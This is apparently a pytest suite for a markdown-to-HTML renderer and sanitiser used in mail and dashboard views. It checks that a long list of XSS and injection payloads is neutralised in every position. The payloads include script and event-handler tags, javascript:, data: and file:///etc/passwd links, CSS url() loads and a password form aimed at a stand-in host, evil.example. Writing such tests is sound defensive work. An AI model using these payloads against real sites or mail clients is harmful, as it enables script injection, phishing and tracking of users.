"""Markdown of strangers: what is shown, and what never gets through."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from nodback_core.mail.letters.highlight import COLOURS, HIGHLIGHT_MAX_CHARS, LANGUAGES, highlight, highlight_css
from nodback_core.mail.letters.markdown import MARKDOWN_MAX_CHARS, Look, code_to_html, sanitise, to_html

TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre", "span", "div",
    "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "style", "class", "start", "dir"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a id=approve name=approve href=#x onclick=alert(1)>x</a>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=//evil.example?>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><script>alert(1)</script>",
    "</pre></code></td></tr></table><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/v1/requests)",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    "[x](<https://ok.example/?q=<p>'\"><script>alert(1)</script>>)",
    '[x](https://ok.example "t\' onclick=alert(1) \\" x=")',
    "![x](https://evil.example/pixel.gif)",
    '![x](https://evil.example/pixel.gif "title")',
    "![x][r]\n\n[r]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "<javascript:alert(1)>",
    "<https://ok.example/<script>>",
    "[r]: javascript:alert(1)\n\n[r]",
    "```<script>alert(1)</script>\nx\n```",
    '```python" onclick="alert(1)\nx\n```',
    "```html\n</pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% include '_layout.html' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<x onclick=alert(1)>x</x>",
]
PLACES = [
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "**{}**",
    "```\n{}\n```",
    "text {} text",
    "[{}](https://ok.example)",
    "~~~html\n{}\n~~~",
]


def is_harmless(html: str, look: Look) -> None:
    page = LexborHTMLParser(f"<main>{html}</main>")
    for node in page.css("main *"):
        assert node.tag in TAGS, node.tag
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, name
            if name == "href":
                assert str(value).startswith(("http://", "https://"))
            if name == "style":
                assert look == "mail"
                assert "url" not in str(value)
                assert "position" not in str(value)
            if name == "class":
                assert value in {*COLOURS, "scroll", "align-left", "align-right", "align-center"}
            if name == "dir":
                assert value == "auto"
    assert len(page.css("main")) == 1


@pytest.mark.parametrize("look", ["mail", "dashboard"])
@pytest.mark.parametrize("place", PLACES)
def test_no_attack_gets_through_in_any_place(place: str, look: Look) -> None:
    for attack in ATTACKS:
        is_harmless(to_html(place.format(attack), look), look)
        is_harmless(code_to_html(place.format(attack), "html", look), look)


def test_the_last_wall_alone_stops_every_attack() -> None:
    for attack in ATTACKS:
        is_harmless(sanitise(attack), "mail")
        is_harmless(sanitise(f"<div {attack}>{attack}</div>"), "mail")


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.sampled_from([*ATTACKS, *"<>&\"'`[]()!*_#|\n\\~-:=", "\u202e", "مرحبا", "🙂"]), max_size=12).map(
        "".join
    )
)
def test_attacks_in_any_mixture_are_harmless(source: str) -> None:
    is_harmless(to_html(source, "mail"), "mail")


def test_what_authors_write_is_shown() -> None:
    html = to_html(
        "# T\n\n**b** *e* ~~s~~ `c` [l](https://a.example)\n\n1. x\n\n> q\n\n| a |\n|--:|\n| 1 |\n\n---\n", "dashboard"
    )

    tags = {node.tag for node in LexborHTMLParser(html).css("body *")}
    assert tags >= {"h1", "strong", "em", "s", "code", "a", "ol", "li", "blockquote", "table", "th", "td", "hr"}
    assert 'class="align-right"' in html
    assert "style=" not in html


def test_html_of_the_author_is_shown_as_text() -> None:
    assert "&lt;b&gt;x&lt;/b&gt;" in to_html("<b>x</b>", "mail")


def test_an_image_becomes_words() -> None:
    html = to_html("See ![the *chart*](https://evil.example/c.png) and ![](x.png)", "mail")

    assert "[image: the chart] and [image]" in LexborHTMLParser(html).body.text()
    assert "evil.example" not in html


def test_links_open_without_telling_where_they_came_from() -> None:
    assert 'rel="noopener noreferrer nofollow"' in to_html("[a](https://a.example)", "dashboard")


def test_a_relative_link_leads_nowhere() -> None:
    assert "href" not in to_html("[a](/v1/requests) [b](#x) [c](//d.example)", "dashboard")


def test_code_is_coloured_by_class_and_in_mail_by_style_as_well() -> None:
    source = "```python\ndef f():\n    return 'x'  # why\n```"

    page, mail = to_html(source, "dashboard"), to_html(source, "mail")
    assert '<span class="hl-k">def </span>' in page
    assert f'<span class="hl-k" style="color:{COLOURS["hl-k"][0]}">def </span>' in mail


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_keeps_its_code_to_the_letter(language: str) -> None:
    code = "\n\n  x = '<a&b>' # ünï\n\t// y \"z\"\n"

    html = highlight(code, language, inline=False)
    assert LexborHTMLParser(f"<pre>x{html}</pre>").css_first("pre").text() == f"x{code}"


def test_code_that_is_too_long_is_shown_without_colours() -> None:
    assert "<span" not in highlight("x = 1\n" * (HIGHLIGHT_MAX_CHARS // 5), "python", inline=True)
    assert "<span" not in highlight("x" * 3_000, "python", inline=True)
    assert "<span" not in highlight("x = 1", "brainfuck", inline=True)


def test_the_style_sheet_has_a_rule_for_every_class() -> None:
    for scheme, name in itertools.product((0, 1), COLOURS):
        assert f".{name}{{color:{COLOURS[name][scheme]}" in highlight_css(scheme)


def luminance(colour: str) -> float:
    parts = (int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5))
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("scheme", [0, 1])
def test_colours_of_code_are_readable(scheme: int) -> None:
    background = luminance(("#f4f3ef", "#2a2b28")[scheme])
    for colours in COLOURS.values():
        dark, light = sorted((background, luminance(colours[scheme])))
        assert (light + 0.05) / (dark + 0.05) >= 4.5


@pytest.mark.parametrize(
    "piece", ["[", "![", ">", "*a **b ", "`", "[a](", "<", "~~a", "* ", "\\[", "|a" * 50 + "\n", "\n"]
)
def test_hostile_text_is_rendered_without_failing(piece: str) -> None:
    html = to_html(piece * (MARKDOWN_MAX_CHARS // len(piece)), "dashboard")

    assert html.isprintable() or "\n" in html


@pytest.mark.parametrize("mark", ["> ", "- ", "1. "])
def test_text_that_is_nested_too_deep_is_shown_all_the_same(mark: str) -> None:
    for depth in range(1, 60):
        assert "SMALL PRINT" in to_html(mark * depth + "SMALL PRINT", "mail")
        indented = "".join(f"{' ' * len(mark) * at}{mark}x\n" for at in range(depth))
        assert "SMALL PRINT" in to_html(f"{indented}{' ' * len(mark) * depth}SMALL PRINT", "mail")


def test_text_in_two_directions_keeps_each_paragraph_in_its_own() -> None:
    assert to_html("مرحبا\n\nHello", "dashboard").count('dir="auto"') == 2
    assert "dir=" not in to_html("Hello", "dashboard")


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("[the page](https://a.example/x)", "the page (https://a.example/x)"),
        ("[https://bank.example](https://evil.example)", "https://bank.example (https://evil.example)"),
        ("<https://a.example/x>", "https://a.example/x"),
        ("[**b** ![c](https://d.example/e)](https://a.example)", "b [image: c] (https://a.example)"),
        ("# [t](https://a.example)", "t (https://a.example)"),
        ("|[t](https://a.example)|\n|---|", "t (https://a.example)"),
    ],
)
def test_a_link_in_a_mail_says_where_it_leads(source: str, shown: str) -> None:
    def words(look: Look) -> str:
        return LexborHTMLParser(f"<main>{to_html(source, look)}</main>").css("main")[0].text().strip()

    assert words("mail") == shown
    assert "https://a.example)" not in words("dashboard"), "a browser shows it by itself"


@pytest.mark.parametrize("look", ["mail", "dashboard"])
@pytest.mark.parametrize(
    "link", ["[go](mailto:a@b.co?subject=x)", "<mailto:a@b.co>", "[go](MAILTO:a@b.co)", "<a@b.co>"]
)
def test_only_our_own_buttons_write_mails(link: str, look: Look) -> None:
    html = to_html(f"x {link} y", look)
    assert "<a" not in html
    assert "href" not in html
    assert html.count("a@b.co") == 1
